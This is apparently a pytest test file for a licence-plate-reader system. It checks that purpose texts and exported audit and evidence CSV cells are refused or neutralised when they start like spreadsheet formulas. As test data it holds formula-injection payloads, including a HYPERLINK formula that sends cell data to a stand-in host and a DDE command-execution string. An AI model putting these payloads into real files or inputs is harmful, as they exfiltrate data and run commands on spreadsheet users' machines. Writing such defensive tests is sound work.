"""Issue 19 item 8: no spreadsheet formula reaches an auditor, neither as a stated purpose nor as a
cell of any CSV the system writes."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest
from hypothesis import given
from hypothesis import strategies as st

from alpr.adapters.audit_duckdb import AuditResult
from alpr.cli.audit import Format, _print
from alpr.domain.access import Purpose, PurposeRules, purpose_from_headers
from alpr.domain.audit import NAMED_QUERIES
from alpr.domain.errors import InvalidRequest
from alpr.domain.release_bundle import _csv
from alpr.domain.spreadsheet import FORMULA_STARTS, neutralise, starts_like_formula
from tests.unit.test_search import a_read

SPECIFIC = "grey sedan seen leaving the shooting on Main St"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_purpose_text_starting_like_a_formula_is_refused(start: str) -> None:
    # Given a purpose whose words are specific, but which a spreadsheet would run
    text = f'{start}HYPERLINK("http://evil.example/?"&A1,"{SPECIFIC}")'
    headers = {
        "x-purpose-category": "homicide",
        "x-case-number": "26-001234",
        "x-purpose-text": text,
    }
    # Then the gate's purpose check refuses it
    with pytest.raises(InvalidRequest, match="formula"):
        purpose_from_headers(headers, PurposeRules())


def test_an_ordinary_purpose_text_still_passes() -> None:
    headers = {
        k.lower(): v
        for k, v in Purpose(category="homicide", case_number="26-001234", text=SPECIFIC).headers().items()
    }
    assert purpose_from_headers(headers, PurposeRules()).text == SPECIFIC


@given(st.text(min_size=1))
def test_a_neutralised_cell_never_starts_like_a_formula_and_keeps_its_text(value: str) -> None:
    cell = neutralise(value)
    assert isinstance(cell, str)
    assert not starts_like_formula(cell)
    assert not cell.startswith(FORMULA_STARTS) or float(cell) == float(value)  # only numbers stay
    assert cell in (value, "'" + value)


@pytest.mark.parametrize("number", ["-122.27", "+3", "-7", "-1.5e3"])
def test_plain_numbers_stay_numbers(number: str) -> None:
    assert neutralise(number) == number


def test_the_audit_csv_neutralises_a_formula_already_in_the_log(capsys: pytest.CaptureFixture[str]) -> None:
    # Given an access record written before the purpose check refused formulas
    query = next(q for q in NAMED_QUERIES if q.name == "data-access")
    result = AuditResult(
        columns=["username", "purpose_text", "lon"], rows=[["ivy", '=HYPERLINK("x")', -122.27]]
    )
    # When the auditor exports it as CSV
    _print(query, result, Format.CSV, "data access")
    (_header, row) = list(csv.reader(io.StringIO(capsys.readouterr().out)))
    # Then the cell is text, not a formula, and the number is still a number
    assert row == ["ivy", '\'=HYPERLINK("x")', "-122.27"]


def test_the_evidence_bundles_reads_csv_neutralises_its_cells() -> None:
    read = a_read("7ABC123", datetime.now(UTC) - timedelta(days=1)).model_copy(
        update={"unit_id": "@SUM(1+1)*cmd|' /C calc'!A0"}
    )
    (_, row) = list(csv.reader(io.StringIO(_csv([read]).decode())))
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in row
    assert not any(cell.startswith(("=", "@")) for cell in row)
